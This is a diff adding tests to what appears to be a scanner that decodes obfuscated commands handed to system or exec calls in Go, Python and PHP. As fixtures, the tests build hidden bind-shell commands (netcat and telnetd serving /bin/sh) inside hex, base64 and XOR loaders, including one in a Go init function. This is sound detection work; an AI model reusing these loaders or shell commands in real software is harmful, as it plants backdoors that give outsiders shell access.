@@ -201,3 +201,32 @@ def test_php_array_map_with_an_ordinary_callback_is_silent():
 def test_text_conversion_of_a_decoder_result_is_not_decoded_twice():
     src = "import base64, os\nos.system(base64.b64decode('dGVsbmV0ZCAtbCAvYmluL3NoIC1wIDIzMjM=').decode('utf-8'))\n"
     assert decoded("app/x.py", "python", src) == ["telnetd -l /bin/sh -p 2323"]
+
+
+def test_go_init_hex_decoded_into_sh_c_and_a_decoded_key_beside_a_fixed_program():
+    hx = b"telnetd -l /bin/sh -p 2323".hex()
+    src = ('package main\nimport ("encoding/hex"; "os/exec")\nfunc init() {\n'
+           f'\tb, _ := hex.DecodeString("{hx}")\n\texec.Command("/bin/sh", "-c", string(b)).Run()\n}}\n')
+    assert decoded("cmd/d/main.go", "go", src) == ["telnetd -l /bin/sh -p 2323"]
+    honest = ('package main\nimport ("encoding/hex"; "os/exec")\nfunc init() {\n'
+              '\tk, _ := hex.DecodeString("00ff10ee")\n\tuse(k)\n\texec.Command("/usr/bin/uptime").Run()\n}\n')
+    assert not high("cmd/d/main.go", "go", honest)
+
+
+def test_python_bytes_of_an_xor_generator():
+    data = [c ^ 5 for c in b"nc -l -p 4444 -e /bin/sh"]
+    src = f"import os\nD = {data}\nos.system(bytes(c ^ 5 for c in D).decode())\n"
+    assert decoded("app/x.py", "python", src) == ["nc -l -p 4444 -e /bin/sh"]
+
+
+def test_a_decoded_command_that_runs_nothing_remote_is_medium_at_most():
+    src = "<?php\nsystem(strrev('tsil/ptth/cte/ sl'));\n"
+    got = [f for f in findings("lib/a.php", "php", src) if f.rule == "source.eval-decoded"]
+    assert got and all(f.severity.value == "medium" for f in got)
+    assert got[0].evidence["decoded"] == "ls /etc/http/list"
+
+
+def test_a_named_decoder_keeps_its_severity_and_now_shows_the_text():
+    src = "<?php\nsystem(base64_decode('bHMgLWw='));\n"
+    got = [f for f in findings("lib/a.php", "php", src) if f.rule == "source.eval-decoded"]
+    assert [f.severity.value for f in got] == ["high"] and got[0].evidence["decoded"] == "ls -l"
